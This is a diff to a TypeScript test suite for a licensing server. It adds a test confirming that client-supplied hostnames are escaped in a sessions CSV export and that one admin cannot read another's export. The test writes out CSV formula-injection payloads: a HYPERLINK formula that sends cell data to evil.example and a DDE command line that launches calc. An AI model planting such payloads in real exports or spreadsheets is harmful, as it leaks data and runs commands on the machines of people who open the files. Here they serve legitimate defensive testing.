@@ -15,6 +15,7 @@ import { exportAuditEvents } from "../../src/server/core/audit/export-audit-even
 import { exportCustomers } from "../../src/server/core/customers/export-customers.ts";
 import { revokeLicense } from "../../src/server/core/licenses/revoke-license.ts";
 import { exportLicenses } from "../../src/server/core/licenses/export-licenses.ts";
+import { exportSessions } from "../../src/server/core/sessions/export-sessions.ts";
 import { ActivityCounter, MAX_KEYS_PER_FLUSH } from "../../src/server/core/stats/activity.ts";
 import { createLogger } from "../../src/server/logger.ts";
 import { getLicenseActivity } from "../../src/server/core/stats/get-license-activity.ts";
@@ -23,7 +24,7 @@ import { csvCell, handleCsvExport } from "../../src/server/trpc/csv-export.ts";
 import { handleRestRequest } from "../../src/server/trpc/handlers.ts";
 import { testServices } from "../support/admin-services.ts";
 import { describeEachDb, type TestDb } from "../support/db.ts";
-import { makeCustomer, makeGroup, makeLicense, makeWorld, unique } from "../support/fixtures.ts";
+import { makeGroup, makeLicense, makeWorld, unique } from "../support/fixtures.ts";
 import { fingerprint, startLicensingServer, type LicensingServer } from "../support/licensing.ts";
 
 const BASE = "http://127.0.0.1:3000/api/v1";
@@ -53,7 +54,7 @@ describeEachDb("issue 17 attacks: search, bulk change, exports, activity", (getD
       services,
     );
     const text = await response.text();
-    let json: Json = {};
+    let json: Json;
     try {
       json = JSON.parse(text) as Json;
     } catch {
@@ -576,6 +577,35 @@ describeEachDb("issue 17 attacks: search, bulk change, exports, activity", (getD
       const activity = await getLicenseActivity(db.ctx(), { licenseId: license.id, granularity: "day" });
       const total = activity.series.reduce((sum, p) => sum + p.validations, 0);
       expect(total).toBe(spellings.length);
+    });
+
+    it("escapes the formula cells an internet client writes into the sessions export", async () => {
+      const license = await makeLicense(db, world.customer.id, world.product.id);
+      const hostnames = [`=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"];
+      for (const hostname of hostnames) {
+        const answer = await server.client.activate({
+          licenseKey: license.key,
+          client: {
+            productCode: world.product.code,
+            fingerprint: fingerprint(),
+            clientVersion: "+1.0",
+            hostname,
+            components: [],
+          },
+        });
+        expect(answer.sessionId).not.toBe("");
+      }
+      const { status, text } = await csv(
+        exportSessions,
+        `/sessions/export.csv?licenseId=${license.id}`,
+        key("adminA"),
+      );
+      expect(status).toBe(200);
+      expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
+      for (const hostname of hostnames) expect(text).toContain(`'${hostname}`.replace(/"/g, '""'));
+      const other = await csv(exportSessions, `/sessions/export.csv?licenseId=${license.id}`, key("adminB"));
+      expect(other.status).toBe(404);
+      expect(other.text).not.toContain("evil.example");
     });
 
     it("keeps the per-key counts bounded by count against a flood of made-up well-formed keys", async () => {
